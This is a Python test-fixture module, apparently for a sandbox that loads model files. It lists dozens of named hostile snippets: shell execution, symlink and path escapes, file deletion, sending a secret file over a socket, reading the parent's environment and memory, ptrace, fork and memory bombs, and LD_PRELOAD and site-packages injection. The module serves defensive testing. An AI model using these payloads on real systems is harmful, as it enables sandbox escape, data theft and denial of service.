"""Code that does harm where nothing holds it back: when a file is opened, or when the model in it is asked."""

AT_OPENING = {
    "os.system": "import os; os.system('touch ' + MARKER)",
    "subprocess": "import subprocess; subprocess.run(['touch', MARKER])",
    "a shell in a pty": "import pty; pty.spawn(['touch', MARKER])",
    "posix_spawn": "import os; os.posix_spawn('/usr/bin/touch', ['touch', MARKER], {})",
    "exec": "import os; os.execv('/usr/bin/touch', ['touch', MARKER])",
    "a file outside": "open(MARKER, 'w').write('x')",
    "a link outside": "import os; os.symlink('/etc/passwd', MARKER)",
    "a hard link": "import os; os.link(SECRET, MARKER)",
    "a folder outside": "import os; os.mkdir(MARKER)",
    "a way out by ..": "import os; open(os.path.relpath(MARKER), 'w').write('x')",
    "a link to the outside, written through": "import os; os.symlink(MARKER, 'link'); open('link', 'w').write('x')",
    "rename": "import os; os.rename(VICTIM, MARKER)",
    "delete": "import os; os.remove(VICTIM)",
    "truncate": "import os; os.truncate(VICTIM, 0)",
    "chmod": "import os; os.chmod(VICTIM, 0o000); open(VICTIM, 'w').write('changed')",
    "a connection": "import socket; socket.create_connection(('127.0.0.1', PORT), 2).send(b'hi')",
    "urllib": "import urllib.request; urllib.request.urlopen('http://127.0.0.1:PORT/', timeout=2)",
    "a socket by ctypes": "import ctypes; assert ctypes.CDLL(None, use_errno=True).socket(2, 1, 0) >= 0",
    "the secret": "raise KeyError(open(SECRET).read())",
    "the secret, out over the network": (
        "import socket; s = socket.create_connection(('127.0.0.1', PORT), 2); s.send(open(SECRET, 'rb').read())"
    ),
    "the secret by /proc": "raise KeyError(open('/proc/self/root' + SECRET).read())",
    "the parent's environment": "import os; raise KeyError(open(f'/proc/{os.getppid()}/environ').read())",
    "keys for ssh": "import os; raise KeyError(os.listdir(os.path.dirname(SECRET)))",
    "ptrace of the parent": (
        "import ctypes, os; c = ctypes.CDLL(None, use_errno=True); "
        "assert c.ptrace(16, os.getppid(), 0, 0) == 0; open(MARKER, 'w')"
    ),
    "the parent's memory": "import os; open(f'/proc/{os.getppid()}/mem', 'r+b'); open(MARKER, 'w')",
    "a signal to the parent": "import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
    "a fork bomb": "import os\nwhile True:\n    os.fork()",
    "processes": "import multiprocessing; multiprocessing.Process(target=print).start(); open(MARKER, 'w')",
    "a thread bomb": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,)).start()",
    "a memory bomb": "x = []\nwhile True:\n    x.append(bytearray(1 << 26))",
    "a memory bomb in one piece": "x = b'a' * (1 << 42)",
    "an endless loop": "while True: pass",
    "a loop that does not return to Python": "9 ** 9 ** 9",
    "a regular expression that takes for ever": "import re; re.match('(a+)+$', 'a' * 40 + 'b')",
    "signals ignored, and a loop": "import signal\nsignal.signal(15, signal.SIG_IGN)\nwhile True: pass",
    "sleep": "import time; time.sleep(3600)",
    "a full scratch folder": "f = open('big', 'wb')\nwhile True:\n    f.write(bytes(1 << 20)); f.flush()",
    "files without end": "i = 0\nwhile True:\n    open(str(i), 'w').close(); i += 1",
    "a crash": "import ctypes; ctypes.string_at(0)",
    "an exit": "import os; os._exit(0)",
    "an exit that looks well": "import sys; sys.exit(0)",
    "recursion": "f = lambda: f(); import sys; sys.setrecursionlimit(10**8); f()",
    "noise": "import os\nwhile True: os.write(2, b'x' * 65536)",
    "a core dump": "import os; os.abort()",
    "a library preloaded": "import os; os.environ['LD_PRELOAD'] = MARKER; os.execv('/bin/true', ['true'])",
    "a module put into site-packages": (
        "import site, os; p = site.getsitepackages()[0] + '/corpus_mark.pth'; open(p, 'w').close(); os.remove(p); "
        "open(MARKER, 'w')"
    ),
    "other limits": "import resource; resource.setrlimit(resource.RLIMIT_CPU, (-1, -1)); open(MARKER, 'w')",
}
"""Name -> code; MARKER, SECRET, VICTIM and PORT are those of the world."""

AT_PREDICT = {
    "os.system when asked": "import os; os.system('touch ' + MARKER)",
    "a file outside when asked": "open(MARKER, 'w').write('x')",
    "a connection when asked": "import socket; socket.create_connection(('127.0.0.1', PORT), 2)",
    "the secret as an answer": "return_value = [open(SECRET).read()] * len(rows)",
    "an endless loop when asked": "while True: pass",
    "a memory bomb when asked": "x = []\nwhile True:\n    x.append(bytearray(1 << 26))",
    "an answer too long": "import numpy; return_value = numpy.zeros((len(rows), 100_000))",
    "an answer for other rows": "import numpy; return_value = numpy.zeros(3)",
    "an answer of objects": "return_value = [object() for _ in range(len(rows))]",
    "an answer that is nothing": "return_value = None",
}
"""The same, in a model's ``predict``; ``return_value`` is what it answers."""
